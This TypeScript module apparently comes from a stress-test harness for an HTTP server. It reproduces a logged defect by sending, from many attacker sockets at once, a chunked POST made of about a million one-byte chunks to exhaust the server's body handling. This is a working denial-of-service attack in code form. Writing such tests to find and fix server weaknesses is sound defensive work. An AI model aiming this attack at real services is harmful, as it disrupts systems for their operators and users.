/**
 * Issue 14, defect 2: one chunked POST of 1,048,576 one-byte chunks (6 MiB on the wire for a body
 * of exactly the 1 MiB limit) from each attacker at once. Every attacker writes the same buffer.
 */
import { performance } from 'node:perf_hooks';
import { connectAttackers, firstStatus, type Outcome } from './attack-socket.js';
import { tally, type Attack } from './attack.js';

const CHUNKS = 1024 * 1024;
const CONNECT_TIMEOUT_MS = 5_000;

export const tinyChunks: Attack = async ({ target, attackers, durationMs }, started) => {
  const deadline = performance.now() + durationMs;
  const head = Buffer.from(`POST / HTTP/1.1\r\nHost: ${target.host}:${target.port}\r\nTransfer-Encoding: chunked\r\n\r\n`);
  const chunks = Buffer.from('1\r\na\r\n'.repeat(CHUNKS));
  const lastChunk = Buffer.from('0\r\n\r\n');
  const sockets = await connectAttackers(target, attackers, CONNECT_TIMEOUT_MS);
  started();
  const outcomes = await Promise.all(
    sockets.map(async (socket): Promise<Outcome> => {
      if (socket === undefined) return 'refused';
      socket.write(head);
      socket.write(chunks);
      socket.write(lastChunk);
      const outcome = await firstStatus(socket, 'POST', deadline - performance.now());
      socket.destroy();
      return outcome;
    }),
  );
  const sent = sockets.filter((s) => s !== undefined).length;
  return tally(outcomes, sent * (head.length + chunks.length + lastChunk.length));
};
